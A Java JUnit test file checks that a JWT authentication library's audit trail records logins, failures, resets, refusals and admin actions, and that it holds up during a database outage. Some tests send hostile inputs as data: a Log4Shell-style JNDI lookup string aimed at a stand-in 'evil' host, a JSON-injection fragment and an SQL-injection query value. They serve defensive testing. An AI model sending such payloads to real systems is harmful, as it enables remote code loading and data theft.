package io.github.jwtauth.flow;

import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;

import io.github.jwtauth.boot.jpa.TestDatabases;
import io.github.jwtauth.flow.TestCaller.Answer;
import io.github.jwtauth.flow.hosts.plain.PlainHost;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.databind.JsonNode;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.jdbc.core.simple.JdbcClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The audit trail over HTTP, on PostgreSQL (R-94 to R-100, X-53, X-59, F-19, I10).
 */
@ExtendWith(OutputCaptureExtension.class)
class AuditFlowTests {

	private static final String NEXT = "another horse, another battery";

	private static TestHost host;

	@BeforeAll
	static void start() {
		host = TestHost.of(PlainHost.class)
			.with(TestDatabases.postgres())
			.with("jwtauth.secret", "kq8hO3YVbnU4cGxhpR7tSxW1eZfJ0dMiQy2LwNvAoTs")
			.with("jwtauth.public-url", "http://localhost")
			.with("jwtauth.schema.initialize", "always")
			.with("jwtauth.admin.enabled", "true")
			.start();
		host.account("admin@example.com", "USER", "ADMIN");
	}

	@AfterAll
	static void stop() {
		host.close();
	}

	@Test
	void aLoginAndItsEndAreTold() { // R-94
		host.account("ada@example.com", "USER");
		TestCaller caller = host.caller().header("User-Agent", "Firefox/140.0").header("X-Request-Id", "trace-me-1");
		Answer login = caller.login("ada@example.com");
		String owner = login.json().at("/user/id").asString();
		assertThat(caller.post("/auth/token/refresh").status()).isEqualTo(200);
		assertThat(caller.post("/auth/logout").status()).isEqualTo(204);

		JsonNode found = events("?account=" + owner);
		assertThat(found.get("total").asInt()).isEqualTo(2);
		JsonNode first = found.at("/items/1");
		assertThat(first.get("type").asString()).isEqualTo("LOGIN_SUCCEEDED");
		assertThat(first.get("actor_id").asString()).isEqualTo(owner);
		assertThat(first.get("session_id").asString()).isEqualTo(login.text("session_id"));
		assertThat(first.get("ip_address").asString()).isEqualTo("127.0.0.1");
		assertThat(first.get("user_agent").asString()).isEqualTo("Firefox/140.0");
		assertThat(first.get("request_id").asString()).isEqualTo("trace-me-1");
		assertThat(first.at("/metadata/amr").asString()).isEqualTo("pwd");
		assertThat(found.at("/items/0/type").asString()).isEqualTo("LOGGED_OUT");
	}

	@Test
	void whoIsNobodyIsTheSameNobodyEachTimeAndHasNoName() { // R-94, R-96, X-53
		TestCaller attacker = host.caller().header("User-Agent", "evil ${jndi:ldap://evil} \"},{\"x\":1");
		attacker.post("/auth/login", Map.of("identifier", "nobody@evil.example", "password", "a wrong password"));
		attacker.post("/auth/login", Map.of("identifier", " NOBODY@evil.example", "password", "a wrong password"));
		await(() -> rows("type = 'LOGIN_FAILED' and account_id is null").size() == 2);

		List<Map<String, Object>> rows = rows("type = 'LOGIN_FAILED' and account_id is null");
		assertThat(rows.get(0)).containsEntry("metadata", rows.get(1).get("metadata"));
		assertThat(rows.get(0).get("metadata").toString()).matches("\\{\"name_hash\":\"[0-9a-f]{32}\"}");
		assertThat(rows.toString()).doesNotContain("nobody");
		assertThat(rows.get(0)).containsEntry("user_agent", "evil ${jndi:ldap://evil} \"},{\"x\":1");
		assertThat(rows.get(0)).containsEntry("reason", "unknown_account").containsEntry("actor_id", null);
	}

	@Test
	void aResetIsWrittenDownWhoeverItIsFor() { // R-21, R-94
		host.account("forgetful@example.com", "USER");
		long before = rows("type = 'PASSWORD_RESET_REQUESTED'").size();
		host.caller().post("/auth/password/reset", Map.of("email", "forgetful@example.com"));
		host.caller().post("/auth/password/reset", Map.of("email", "stranger@example.com"));
		List<Map<String, Object>> rows = rows("type = 'PASSWORD_RESET_REQUESTED'");
		assertThat(rows).hasSize((int) before + 2).extracting((row) -> row.get("outcome")).containsOnly("success");
		assertThat(rows).extracting((row) -> row.get("actor_id")).containsOnlyNulls();
	}

	@Test
	void refusedTokensAndOtherSitesAreTold() {
		for (int request = 0; request < 5; request++) {
			host.caller()
				.header("Origin", "https://evil.example")
				.header("Sec-Fetch-Site", "cross-site")
				.post("/auth/login", Map.of("identifier", "ada@example.com", "password", "a wrong password"));
		}
		host.caller().post("/auth/email/verify", Map.of("token", "jot_nonsense"));
		await(() -> rows("type = 'ONE_TIME_TOKEN_REFUSED'").size() == 1);
		assertThat(rows("type = 'ONE_TIME_TOKEN_REFUSED'").get(0)).containsEntry("metadata",
				"{\"use\":\"email_verify\"}");

		// A flood is refused, not written down: R-99
		assertThat(rows("type = 'CROSS_ORIGIN_REFUSED'")).singleElement()
			.satisfies((row) -> assertThat(row).containsEntry("metadata",
					"{\"origin\":\"https://evil.example\",\"path\":\"/auth/login\"}"));
	}

	@Test
	void whatNotEvenAnAdministratorMayIsToldOnce() { // R-47, X-64
		TestCaller caller = host.caller();
		Answer login = caller.login("admin@example.com");
		String id = login.json().at("/user/id").asString();
		for (int request = 0; request < 3; request++) {
			Answer refused = caller.bearer(login.text("access_token")).post("/auth/admin/accounts/" + id + "/unlock");
			assertThat(refused.code()).as(refused.toString()).isEqualTo("forbidden");
		}
		Answer granted = caller.bearer(login.text("access_token"))
			.json("PUT", "/auth/admin/accounts/" + id + "/roles", "{\"roles\":[\"USER\",\"ADMIN\",\"AUDITOR\"]}");
		assertThat(granted.code()).as(granted.toString()).isEqualTo("forbidden");
		String denied = "type = 'ACCESS_DENIED' and account_id = '" + id + "'";
		await(() -> rows(denied).size() > 1);
		assertThat(rows(denied)).extracting((row) -> row.get("metadata"))
			.containsExactly("{\"what\":\"admin_unlock\"}", "{\"what\":\"admin_roles\"}");
		assertThat(rows(denied)).extracting((row) -> String.valueOf(row.get("actor_id"))).containsOnly(id);
	}

	@Test
	void everythingIsSealedWithinSecondsAndVerified() { // R-95, I10
		host.caller().login("admin@example.com");
		await(() -> rows("chain_position is null").isEmpty());
		Answer verified = administrator().get("/auth/admin/audit-events/verify");
		assertThat(verified.status()).isEqualTo(200);
		assertThat(verified.json().get("intact").asBoolean()).as(verified.toString()).isTrue();
		assertThat(verified.json().get("verified").asInt()).isPositive();
		assertThat(verified.json().get("findings").size()).isZero();
		assertThat(rows("type = 'ADMINISTRATOR_LOOKED'")).extracting((row) -> row.get("metadata"))
			.contains("{\"what\":\"audit_verification\"}");
	}

	@Test
	void questionsThatMakeNoSenseAreRefused() {
		TestCaller administrator = administrator();
		for (String query : List.of("?page=-1", "?page=x", "?page=", "?size=0", "?size=101", "?type=NONSENSE",
				"?since=yesterday", "?account=1' or '1'='1".replace(" ", "%20").replace("'", "%27"))) {
			Answer answer = administrator.get("/auth/admin/audit-events" + query);
			assertThat(answer.status()).as(query + answer).isEqualTo(400);
			assertThat(answer.code()).isEqualTo("validation");
		}
		Answer undecodable = administrator.get("/auth/admin/audit-events?type=%FF");
		assertThat(undecodable.status()).as(undecodable.toString()).isEqualTo(400);
		Answer page = administrator
			.get("/auth/admin/audit-events?type=login_succeeded&since=2020-01-01T00:00:00Z&size=1");
		assertThat(page.json().get("items").size()).isEqualTo(1);
		assertThat(page.json().get("size").asInt()).isEqualTo(1);
		assertThat(page.json().get("page").asInt()).isZero();
		assertThat(host.caller().get("/auth/admin/audit-events").status()).isEqualTo(401);
		assertThat(rows("type = 'ADMINISTRATOR_LOOKED'")).isNotEmpty();
	}

	@Test
	void ownersTakeTheirPartWithThem() { // R-100
		host.account("leaver@example.com", "USER");
		TestCaller caller = host.caller();
		Answer login = caller.login("leaver@example.com");
		Answer export = caller.bearer(login.text("access_token")).post("/auth/me/export");
		assertThat(export.status()).as(export.toString()).isEqualTo(200);
		assertThat(export.json().at("/audit_trail/events/0/type").asString()).isEqualTo("LOGIN_SUCCEEDED");
		assertThat(export.json().at("/audit_trail/total").asInt()).isPositive();
		assertThat(export.json().get("audit_trail").toString()).doesNotContain("metadata").doesNotContain("actor");
	}

	@Test
	void withoutItsRecordNothingChangesAndNobodyIsKeptWaiting(CapturedOutput output) { // R-99,
																						// F-19
		host.account("careful@example.com", "USER");
		TestCaller caller = host.caller();
		String token = caller.login("careful@example.com").text("access_token");
		JdbcClient sql = host.bean(JdbcClient.class);
		String wrong = UUID.randomUUID().toString();
		sql.sql("alter table jwtauth_audit_event rename to audit_gone").update();
		try {
			Answer change = caller.bearer(token)
				.post("/auth/password/change", Map.of("current_password", TestHost.PASSWORD, "new_password", NEXT));
			assertThat(change.status()).as(change.toString()).isEqualTo(503);
			assertThat(change.header("Retry-After")).isNotEmpty();
			assertThat(host.caller().login("careful@example.com").status()).isEqualTo(503);
			Answer refused = host.caller()
				.header("X-Request-Id", wrong)
				.post("/auth/login", Map.of("identifier", "careful@example.com", "password", "a wrong password"));
			assertThat(refused.code()).isEqualTo("invalid_credentials");
			await(() -> output.getOut().contains(wrong));
			assertThat(output.getOut().lines().filter((line) -> line.contains("\"request_id\":\"" + wrong + "\"")))
				.singleElement()
				.asString()
				.contains("\"type\":\"LOGIN_FAILED\"")
				.doesNotContain("careful@");
			assertThat(caller.post("/auth/token/refresh").status()).isEqualTo(200);
		}
		finally {
			sql.sql("alter table audit_gone rename to jwtauth_audit_event").update();
		}
		assertThat(host.caller().login("careful@example.com").status()).isEqualTo(200);
		await(() -> rows("chain_position is null").isEmpty());
		assertThat(administrator().get("/auth/admin/audit-events/verify").json().get("intact").asBoolean()).isTrue();
	}

	private static JsonNode events(String query) {
		Answer answer = administrator().get("/auth/admin/audit-events" + query);
		assertThat(answer.status()).as(answer.toString()).isEqualTo(200);
		return answer.json();
	}

	private static TestCaller administrator() {
		TestCaller caller = host.caller();
		return caller.bearer(caller.login("admin@example.com").text("access_token"));
	}

	private static List<Map<String, Object>> rows(String condition) {
		return host.bean(JdbcClient.class)
			.sql("select * from jwtauth_audit_event where " + condition + " order by occurred_at")
			.query()
			.listOfRows();
	}

	/** What happens on another thread, within seconds. */
	private static void await(BooleanSupplier condition) {
		long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
		while (!condition.getAsBoolean()) {
			assertThat(System.nanoTime()).as("ten seconds are over").isLessThan(end);
			LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(20));
		}
	}

}
